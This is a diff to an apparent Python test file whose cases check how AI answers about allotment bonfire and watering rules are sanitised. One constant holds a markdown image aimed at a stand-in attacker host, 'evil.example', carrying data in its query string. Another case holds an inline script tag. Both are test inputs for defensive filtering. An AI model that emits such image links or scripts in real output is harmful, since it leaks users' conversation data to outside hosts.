@@ -26,6 +26,7 @@ ROWS = "On which days may each row water, and who is its warden?"
 FRIDAYS = "Bonfires are allowed on Fridays after 15:00."
 ASHES = "Someone has to stay until the ashes are cold."
 EMPHASIS = "**Bonfires** are allowed on *Fridays* after 15:00."
+PICTURE = "![x](https://evil.example/?q=fire)"
 MIDDLE = "The answer ends in the middle."
 
 
@@ -123,7 +124,7 @@ CASES = [
         notice=MIDDLE,
     ),
     Case("breaks off at once", FIRES, "Bonfires are allowed", "", breaks="are", notice=MIDDLE),
-    Case("a picture elsewhere", FIRES, f"{FRIDAYS}\n\n![x](https://evil.example/?q=fire)", f"{FRIDAYS} [1]", ["x"]),
+    Case("a picture elsewhere", FIRES, f"{FRIDAYS}\n\n{PICTURE}", f"{FRIDAYS} [1]", [PICTURE]),
     Case("a script", FIRES, f"{FRIDAYS}\n\n<script>x()</script>", f"{FRIDAYS} [1]", ["<script>x()</script>"]),
 ]  # fmt: skip
 
